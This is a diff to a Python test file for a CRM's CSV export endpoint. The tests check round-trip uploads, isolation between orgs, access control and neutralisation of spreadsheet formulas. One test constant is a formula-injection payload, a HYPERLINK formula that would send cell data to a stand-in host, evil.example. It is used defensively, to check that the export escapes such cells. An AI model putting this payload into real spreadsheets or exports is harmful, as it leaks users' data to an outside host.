@@ -1,8 +1,10 @@
-"""`crm export <entity> --org ID`: an org's live records as the CSV file the upload takes, so
-that an export uploads back unchanged: into the same org it updates every record of an entity
-with a natural key and changes nothing; into a fresh org it makes equal records."""
+"""`crm export <entity> --org ID` and `GET /api/<entity>/export/`: an org's live records as
+the CSV file the upload takes, so that an export uploads back unchanged: into the same org it
+matches every record by its id, creates nothing and changes nothing; without its `id` column,
+into a fresh org, it makes equal records."""
 
 import asyncio
+import csv
 import io
 import os
 import sqlite3
@@ -209,6 +211,14 @@ def key_names(listed: dict[str, list[dict[str, Any]]]) -> dict[str, str]:
     }
 
 
+def without_column(text: str, name: str) -> str:
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    position = rows[0].index(name)
+    out = io.StringIO()
+    csv.writer(out).writerows([row[:position] + row[position + 1 :] for row in rows])
+    return out.getvalue()
+
+
 @pytest.fixture
 def small_batches(monkeypatch: pytest.MonkeyPatch) -> None:
     """Batches of 2 rows, so that every export here reads several."""
@@ -250,21 +260,18 @@ async def test_an_export_uploads_back_into_its_org_unchanged(
     for entity in ENTITIES:
         report = await upload(api, admin, entity, files[entity])
         assert report["errors"] == [], (entity, report["errors"])
-        if entity in NATURAL_KEYS:  # matched by it: every record updated, none created
-            assert report["created"] == []
-            assert {row["id"] for row in report["updated"]} == {r["id"] for r in before[entity]}
-        else:  # no natural key: each row a new record, equal to the one it was exported from
-            assert len(report["created"]) == len(before[entity]) and report["updated"] == []
+        # Matched by id, with or without a natural key: every record updated, none created.
+        assert report["created"] == []
+        assert {row["id"] for row in report["updated"]} == {r["id"] for r in before[entity]}
 
     after = {entity: await records(api, admin, entity) for entity in ENTITIES}
     for entity in ENTITIES:
-        unchanged = [
-            {**record, "updated_at": None} for record in after[entity][: len(before[entity])]
-        ]
-        assert unchanged == [{**record, "updated_at": None} for record in before[entity]], entity
-        if entity not in NATURAL_KEYS:
-            copies = after[entity][len(before[entity]) :]
-            assert alike(copies, {}) == alike(before[entity], {}), entity
+        if entity == "opportunities":  # a contacts cell is written again: a new updated_at
+            assert [{**r, "updated_at": None} for r in after[entity]] == [
+                {**r, "updated_at": None} for r in before[entity]
+            ]
+        else:
+            assert after[entity] == before[entity], entity
     converted_now = next(r for r in after["leads"] if r["id"] == converted["id"])
     assert converted_now["status"] == "converted"
 
@@ -291,7 +298,9 @@ async def test_an_export_uploaded_into_a_fresh_org_makes_equal_records(
     await post(api, fresh, "/api/users/", email=world.user.email, password=PASSWORD, role="user")
 
     for entity in ENTITIES:
-        report = await upload(api, fresh, entity, await export(database_url, entity, source.org_id))
+        exported = await export(database_url, entity, source.org_id)
+        # Without its ids, which name nothing in another org (row errors on `id`).
+        report = await upload(api, fresh, entity, without_column(exported, "id"))
         assert report["updated"] == []
         if entity == "tasks":
             # An opportunity has no natural key: its id names nothing in another org.
@@ -372,3 +381,110 @@ async def test_help_and_one_line_errors(
     assert not missing.exists()
     with sqlite3.connect(old) as conn:
         assert conn.execute("SELECT version_num FROM alembic_version").fetchall() == [("0004",)]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+async def http_export(api: httpx.AsyncClient, who: Identity, entity: str, **params: str) -> str:
+    response = await api.get(f"/api/{entity}/export/", params=params, headers=who.headers)
+    assert response.status_code == 200, response.text
+    assert response.headers["content-type"].startswith("text/csv")
+    return response.text
+
+
+def table(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+async def test_an_http_export_uploads_back_creating_and_changing_nothing(
+    api: httpx.AsyncClient, world: World, database_url: str
+) -> None:
+    admin = world.admin
+    for key, kind in (("industry", "text"), ("score", "number")):
+        await post(api, admin, "/api/custom-fields/", entity="lead", key=key, label=key, type=kind)
+    bodies = [
+        {
+            "title": FORMULA,
+            "email": "jane@acme.test",
+            "tags": ["hot", "vip"],
+            "assigned_to": world.user.profile_id,
+            "custom_fields": {"industry": "@saas", "score": -5},
+        },
+        {"title": "'quoted from the start", "tags": ["@home", "x"]},  # no email
+        {"title": "''twice", "description": "-minus first", "custom_fields": {"score": -2.5}},
+        {"title": "+1 555 0100 call", "phone": "+1 555 0100", "custom_fields": {"industry": "'="}},
+        {"title": "Plain", "email": "plain@acme.test", "custom_fields": {"score": 3}},
+    ]
+    made = [await post(api, admin, "/api/leads/", **body) for body in bodies]
+    ids = [lead["id"] for lead in made]
+
+    async def details() -> list[bytes]:
+        got = [await api.get(f"/api/leads/{i}/", headers=admin.headers) for i in ids]
+        assert all(response.status_code == 200 for response in got)
+        return [response.content for response in got]
+
+    before = await details()
+    exported = await http_export(api, admin, "leads")
+    assert exported == await export(database_url, "leads", admin.org_id)  # one writer
+    header = exported.splitlines()[0].split(",")
+    assert header[-5:] == ["id", "number", "created_at", "updated_at", "created_by"] or header[
+        -4:
+    ] == ["id", "created_at", "updated_at", "created_by"]
+    rows = table(exported)
+    assert [row["id"] for row in rows] == ids[::-1]  # the list's order: newest first
+    cells = {row["id"]: row for row in rows}
+    # A spreadsheet reads none of them as a formula; a number stays a number.
+    assert cells[ids[0]]["title"] == "'" + FORMULA
+    assert (cells[ids[0]]["cf_industry"], cells[ids[0]]["cf_score"]) == ("'@saas", "-5")
+    assert cells[ids[1]]["title"] == "''quoted from the start"
+    assert cells[ids[1]]["tags"] == "'@home;x"
+    assert (cells[ids[2]]["title"], cells[ids[2]]["description"]) == ("'''twice", "'-minus first")
+    assert cells[ids[2]]["cf_score"] == "-2.5"
+    assert (cells[ids[3]]["title"], cells[ids[3]]["phone"]) == ("'+1 555 0100 call", "'+1 555 0100")
+    assert cells[ids[3]]["cf_industry"] == "''="
+    assert cells[ids[0]]["assigned_to"] == world.user.email
+    assert cells[ids[0]]["created_by"] == admin.email
+    assert cells[ids[4]]["created_at"] == made[4]["created_at"]
+
+    report = await upload(api, admin, "leads", exported)
+    assert report["created"] == [] and report["errors"] == []
+    assert sorted(row["id"] for row in report["updated"]) == sorted(ids)
+    assert await details() == before  # byte for byte
+
+    # Another org's admin exports none of it, and its upload of this file (into the same
+    # custom fields) changes nothing anywhere.
+    theirs = await http_export(api, world.other, "leads")
+    assert theirs.splitlines() == [exported.splitlines()[0].replace(",cf_industry,cf_score", "")]
+    for key, kind in (("industry", "text"), ("score", "number")):
+        await post(
+            api, world.other, "/api/custom-fields/", entity="lead", key=key, label=key, type=kind
+        )
+    report = await upload(api, world.other, "leads", exported)
+    assert report["created"] == [] and report["updated"] == []
+    assert {tuple(row["errors"]) for row in report["errors"]} == {("id",)}
+    assert await records(api, world.other, "leads") == []
+    assert await details() == before
+
+    # A user may not export; nor may anyone without a token.
+    refused = await api.get("/api/leads/export/", headers=world.user.headers)
+    assert refused.status_code == 403, refused.text
+    assert (await api.get("/api/leads/export/")).status_code == 401
+
+
+async def test_an_http_export_takes_the_list_parameters_but_page(
+    api: httpx.AsyncClient, world: World
+) -> None:
+    admin = world.admin
+    for title, tags in (("Beta", ["hot"]), ("Alpha", ["hot"]), ("Gamma", [])):
+        await post(api, admin, "/api/leads/", title=title, tags=tags)
+    ordered = table(await http_export(api, admin, "leads", ordering="title", tags="hot"))
+    assert [row["title"] for row in ordered] == ["Alpha", "Beta"]
+    searched = table(await http_export(api, admin, "leads", search="amm"))
+    assert [row["title"] for row in searched] == ["Gamma"]
+    for params in ({"page": "2"}, {"page_size": "10"}, {"cursor": ""}, {"colour": "red"}):
+        response = await api.get("/api/leads/export/", params=params, headers=admin.headers)
+        assert response.status_code == 400, response.text
+        assert set(response.json()["errors"]) == set(params)
+    bad = await api.get("/api/leads/export/", params={"ordering": "nope"}, headers=admin.headers)
+    assert bad.status_code == 400 and set(bad.json()["errors"]) == {"ordering"}
